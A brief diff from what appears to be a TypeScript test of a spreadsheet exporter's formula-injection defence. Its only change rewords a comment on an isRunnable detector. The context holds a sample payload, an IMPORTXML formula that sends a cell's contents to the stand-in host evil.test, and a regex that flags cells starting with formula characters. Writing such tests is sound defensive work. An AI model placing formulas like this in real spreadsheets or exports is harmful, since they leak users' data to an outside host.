@@ -32,7 +32,7 @@ const BODIES = [
   'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
 ];
 
-/** What a program would run when it opened the cell: judged here on its own, whatever made the cell safe. */
+/** What a program would run when it opens the cell: checked here independently of the exporter. */
 const isRunnable = (cell: string): boolean =>
   /^[\s\0\uFEFF]*[=+\-@＝＋－＠]/u.test(cell) && !/^\+?[\d ()-]+$/.test(cell) && !/^-?[\d.]+$/.test(cell);
 
